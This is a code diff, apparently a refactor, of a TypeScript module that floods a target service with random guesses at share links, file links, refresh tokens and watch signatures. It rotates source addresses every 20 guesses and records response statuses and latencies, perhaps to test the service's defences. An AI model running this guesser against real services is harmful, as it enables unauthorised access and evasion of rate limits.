@@ -6,18 +6,21 @@ import type { AttackTarget } from './raw-client.js';
 /** An address leaves after this number of guesses, and another one takes its place. */
 const GUESSES_PER_ADDRESS = 20;
 const TICK_MS = 10;
-const VARIANTS = 256;
+const VARIANTS_PER_REQUEST = 256;
 const MAX_CONNECTIONS = 2_000;
 
 const token = (bytes: number): string => randomBytes(bytes).toString('base64url');
 
-/** Guesses at what grants access without a session. Each is well-formed, so that the service has to look it up. */
+/**
+ * Requests that guess share links, file links, refresh tokens and watch signatures. Each guess is well-formed, so that
+ * the service has to look it up.
+ */
 const GUESSES = [
   () => getRequest(`/share/${token(32)}`),
   () => getRequest(`/app-api/mcdisk/blob/${token(64)}`),
   () => jsonRequest('/apis/v2/userctx/user/account/token/refresh', { refreshToken: token(32) }),
   () => jsonRequest('/apis/v2/userctx/watch/token/create', { did: 42, nonce: token(32), signature: token(64) }),
-].flatMap((create) => Array.from({ length: VARIANTS }, create));
+].flatMap((create) => Array.from({ length: VARIANTS_PER_REQUEST }, create));
 
 interface GuessingConnection {
   socket: Socket;
@@ -26,7 +29,7 @@ interface GuessingConnection {
 }
 
 /**
- * Sends guesses at a fixed rate from changing addresses, one at a time per connection. If no connection is free, a
+ * Sends guesses at a fixed rate from changing addresses, one at a time per connection. If no connection is idle, a
  * further one is opened.
  */
 export class Guesses {
@@ -35,10 +38,10 @@ export class Guesses {
   sent = 0;
   /** Number of addresses that have sent guesses. */
   addresses = 0;
-  private readonly free: GuessingConnection[] = [];
-  private connections = 0;
+  private readonly idleConnections: GuessingConnection[] = [];
+  private connectionCount = 0;
   private startedAt = 0;
-  private due = 0;
+  private dueCount = 0;
 
   constructor(
     private readonly target: AttackTarget,
@@ -52,16 +55,16 @@ export class Guesses {
 
   private sendDue(): void {
     const due = Math.floor(((performance.now() - this.startedAt) * this.perSecond) / 1_000);
-    for (; this.due < due; this.due += 1) {
-      const connection = this.free.shift();
+    for (; this.dueCount < due; this.dueCount += 1) {
+      const connection = this.idleConnections.shift();
       if (connection) this.send(connection);
-      else if (this.connections < MAX_CONNECTIONS) this.open();
+      else if (this.connectionCount < MAX_CONNECTIONS) this.open();
     }
   }
 
   /** Opens a connection from another address, whose first guess is sent at once. */
   private open(): void {
-    this.connections += 1;
+    this.connectionCount += 1;
     this.addresses += 1;
     const socket = openConnection(this.target, randomAddress());
     const connection = { socket, remaining: GUESSES_PER_ADDRESS, sentAt: 0 };
@@ -71,15 +74,15 @@ export class Guesses {
       if (status === undefined) return;
       this.statuses.add(status);
       this.latencies.push(performance.now() - connection.sentAt);
-      if (connection.remaining > 0) this.free.push(connection);
+      if (connection.remaining > 0) this.idleConnections.push(connection);
       else socket.destroy();
     });
     socket.once('close', () => {
       if (connection.remaining > 0) this.statuses.add('connection closed');
-      if (isOpen) this.connections -= 1;
+      if (isOpen) this.connectionCount -= 1;
       isOpen = false;
-      const index = this.free.indexOf(connection);
-      if (index !== -1) this.free.splice(index, 1);
+      const index = this.idleConnections.indexOf(connection);
+      if (index !== -1) this.idleConnections.splice(index, 1);
     });
     this.send(connection);
   }
